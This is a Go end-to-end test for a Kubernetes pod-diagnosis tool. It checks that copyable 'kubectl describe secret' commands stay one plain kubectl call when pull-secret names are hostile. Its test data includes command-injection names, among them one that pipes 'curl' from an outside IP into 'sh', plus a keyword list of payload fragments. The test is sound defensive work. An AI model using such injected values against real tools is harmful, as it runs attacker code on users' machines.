package e2e_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"mvdan.cc/sh/v3/syntax"
)

// A pull secret's name is not validated by the API server, and a finding
// about an unauthorized pull offers "kubectl describe secret <name>". Names
// built to run code in the shell of whoever pastes the command must never
// reach a command, through the API or the page's copy button, while a valid
// name on the same pod still gets its command.
func TestCopyableCommandsCannotRunCode(t *testing.T) {
	cluster := startCluster(t)
	c := cluster.Client
	const ns = "shell"
	createNamespace(t, c, ns)
	hostile := []string{
		"regcred; curl -s http://203.0.113.9/x | sh #",
		"$(touch /tmp/pwned)",
		"`id`",
		"line\ncurl x | sh",
	}
	pod := newPod(ns, "private-app", "", map[string]string{"app": "private"}).
		with(func(p *corev1.Pod) {
			p.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "regcred-ok"}}
			for _, name := range hostile {
				p.Spec.ImagePullSecrets = append(p.Spec.ImagePullSecrets, corev1.LocalObjectReference{Name: name})
			}
		}).
		withStatus(func(p *corev1.Pod) {
			imagePullBackOff(p)
			cs := &p.Status.ContainerStatuses[0]
			cs.State.Waiting.Reason = "ErrImagePull"
			cs.State.Waiting.Message = fmt.Sprintf(`rpc error: code = Unknown desc = failed to pull and unpack image %q: `+
				`failed to resolve reference %q: pull access denied, repository does not exist or may require authorization: `+
				`server message: insufficient_scope: authorization failed`, cs.Image, cs.Image)
		}).create(t, c)

	p := startPodlens(t, cluster.Config)
	var detail podDetail
	eventually(t, 30*time.Second, "the unauthorized pull diagnosed", func() error {
		detail = podDetail{}
		if code := getJSON(t, p.URL+"/api/v1/pods/"+ns+"/"+pod.Name, &detail); code != 200 {
			return fmt.Errorf("status %d", code)
		}
		for _, f := range detail.Diagnosis.Findings {
			for _, cmd := range f.Commands {
				if strings.Contains(cmd, "describe secret") {
					return nil
				}
			}
		}
		return fmt.Errorf("no describe-secret command yet in %+v", detail.Diagnosis.Findings)
	})

	var commands []string
	for _, f := range detail.Diagnosis.Findings {
		commands = append(commands, f.Commands...)
	}
	wantSecret := "kubectl describe secret -n shell regcred-ok"
	if !containsString(commands, wantSecret) {
		t.Errorf("API commands %q lack %q", commands, wantSecret)
	}
	checkOneKubectlCall(t, "API", commands, hostile)

	tab := newTab(t)
	if status := tab.open(t, p.URL+"/pods/"+ns+"/"+pod.Name); status != 200 {
		t.Fatalf("pod page: status %d", status)
	}
	// What the Copy button copies is the command element's text.
	shown := eval[[]string](t, tab, `Array.from(document.querySelectorAll('[data-testid="command"]')).map(e => e.textContent)`)
	if !containsString(shown, wantSecret) {
		t.Errorf("page commands %q lack %q", shown, wantSecret)
	}
	checkOneKubectlCall(t, "page", shown, hostile)
}

// checkOneKubectlCall fails unless each command reads, in bash, as exactly
// one simple kubectl call whose words are plain or single-quoted (nothing a
// shell would expand or run), and no command holds a hostile value.
func checkOneKubectlCall(t *testing.T, where string, commands, hostile []string) {
	t.Helper()
	if len(commands) == 0 {
		t.Fatalf("%s: no commands at all", where)
	}
	for _, cmd := range commands {
		for _, h := range hostile {
			if strings.Contains(cmd, h) {
				t.Errorf("%s: command %q holds the hostile name %q", where, cmd, h)
			}
		}
		for _, payload := range []string{"curl", "pwned", "id`", "sh #"} {
			if strings.Contains(cmd, payload) {
				t.Errorf("%s: command %q holds %q from a hostile name", where, cmd, payload)
			}
		}
		f, err := syntax.NewParser(syntax.Variant(syntax.LangBash), syntax.KeepComments(true)).Parse(strings.NewReader(cmd), "")
		if err != nil {
			t.Errorf("%s: %q does not parse: %v", where, cmd, err)
			continue
		}
		if len(f.Stmts) != 1 || len(f.Last) > 0 {
			t.Errorf("%s: %q is %d statements (and %d comments), want one", where, cmd, len(f.Stmts), len(f.Last))
			continue
		}
		st := f.Stmts[0]
		call, ok := st.Cmd.(*syntax.CallExpr)
		if !ok || st.Negated || st.Background || len(st.Redirs) > 0 || len(call.Assigns) > 0 || len(st.Comments) > 0 {
			t.Errorf("%s: %q is not one simple command", where, cmd)
			continue
		}
		if call.Args[0].Lit() != "kubectl" {
			t.Errorf("%s: %q does not start with kubectl", where, cmd)
		}
		for _, w := range call.Args {
			for _, part := range w.Parts {
				switch part.(type) {
				case *syntax.Lit, *syntax.SglQuoted:
				default:
					t.Errorf("%s: %q has a word part %T a shell would expand", where, cmd, part)
				}
			}
		}
	}
}

func containsString(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}
